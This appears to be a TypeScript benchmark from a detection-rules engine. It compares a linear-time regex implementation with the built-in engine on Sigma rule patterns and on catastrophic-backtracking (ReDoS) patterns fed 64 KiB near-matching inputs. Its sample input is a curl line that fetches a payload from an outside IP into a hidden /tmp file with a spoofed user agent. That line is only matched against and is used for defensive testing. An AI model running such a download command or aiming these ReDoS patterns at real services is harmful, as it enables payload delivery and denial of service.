// Regular expressions: the corpus' patterns and hostile ones, in the engine of the rules and in the built-in one. What
// docs/decisions/0002-regular-expressions.md says comes from here.
//   bun test/bench/regexes.ts

import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { type Rule, ruleItems } from '../../src/rules/ast.ts';
import { loadRules } from '../../src/rules/load.ts';
import { LinearRegex } from '../../src/rules/regex.ts';
import { ROOT } from './programs.ts';

/** Patterns that are known for stalling engines that backtrack. */
export const HOSTILE: readonly string[] = [
  ...['(a+)+$', '(a|a)*$', '(a|aa)+$', '(a*)*c', '^(a+)+$', '(a|b|ab)*c', '(x+x+)+y', '([a-zA-Z]+)*$', '(\\w+\\s?)*$'],
  ...['(.*)*=', '.*.*.*=x', '(.*a){20}c', '^(.*?,){11}P', '\\s*\\s*\\s*=', '[^/]{100,}$', '(.){200,}c', 'a[ab]{300}c'],
  ...['^(([a-z])+.)+[A-Z]([a-z])+$', '^([a-zA-Z0-9._-]+)*@', '(?i)(A+)+\\b$'],
];

/** 64 KiB that each almost match. */
export const HOSTILE_VALUES: readonly string[] = [
  `${'a'.repeat(65_535)}b`,
  'ab'.repeat(32_768),
  `${'a'.repeat(65_535)}/`,
  `${'a '.repeat(32_767)}!`,
  'a,'.repeat(32_768),
  `${' '.repeat(65_535)}x`,
  Array.from({ length: 65_536 }, (_, i) => 'ab'[(i * 2_654_435_761) >>> 31]).join(''),
];

const LINE = 'curl -s -o /tmp/.x --retry 3 https://198.51.100.7/payload.tar.gz -H "User-Agent: Mozilla/5.0"';
const TIMEOUT_MS = 2_000;

function patternsOf(rules: readonly Rule[]): string[] {
  const sources = new Set<string>();
  for (const rule of rules) {
    for (const { values } of ruleItems(rule)) {
      for (const { tests } of values) for (const test of tests) if (test.op === 'regex') sources.add(test.regex.source);
    }
  }
  return [...sources];
}

function nanoseconds(run: () => void): number {
  let times = 1;
  for (;;) {
    const start = process.hrtime.bigint();
    for (let i = 0; i < times; i++) run();
    const took = Number(process.hrtime.bigint() - start);
    if (took > 50_000_000) return took / times;
    times *= 2;
  }
}

/** The dearest value in milliseconds, once each. */
function dearestMs(test: (value: string) => boolean): number {
  const times = HOSTILE_VALUES.map(value => {
    const start = performance.now();
    test(value);
    return performance.now() - start;
  });
  return Math.max(...times);
}

/** In a process of its own, for it may never come back. */
function builtinMs(source: string): string {
  const env = { ...process.env, PUPPY_BENCH_PATTERN: source };
  const child = spawnSync(process.execPath, [import.meta.path], { env, encoding: 'utf8', timeout: TIMEOUT_MS });
  return child.status === 0 ? `${Number(child.stdout).toFixed(1)} ms` : `> ${TIMEOUT_MS} ms`;
}

/** The built-in engine knows no leading flags. */
function builtin(source: string): RegExp {
  const flags = /^\(\?([ims]+)\)/.exec(source);
  return new RegExp(source.slice(flags?.[0].length ?? 0), flags?.[1] ?? '');
}

function main(): void {
  const given = process.env.PUPPY_BENCH_PATTERN;
  if (given !== undefined) {
    const regex = builtin(given);
    console.log(dearestMs(value => regex.test(value)));
    return;
  }
  const shared = process.env.PUPPY_SHARED_DATA ?? join(ROOT, '../shared/data');
  const corpus = patternsOf(loadRules([join(shared, 'sigma/rules')]).rules);
  console.log(
    `${corpus.length} patterns of the corpus, ${LINE.length} characters: ours, built-in; 64 KiB: ours, built-in`,
  );
  for (const source of [...corpus, ...HOSTILE]) {
    const linear = new LinearRegex(source, { i: false, m: false, s: false });
    const other = builtin(source);
    const columns = [
      `${nanoseconds(() => linear.test(LINE)).toFixed(0)} ns`,
      `${nanoseconds(() => other.test(LINE)).toFixed(0)} ns`,
      `${dearestMs(value => linear.test(value)).toFixed(1)} ms`,
      builtinMs(source),
    ];
    console.log(`${columns.map(text => text.padStart(10)).join('  ')}  ${source}`);
  }
}

if (import.meta.main) main();
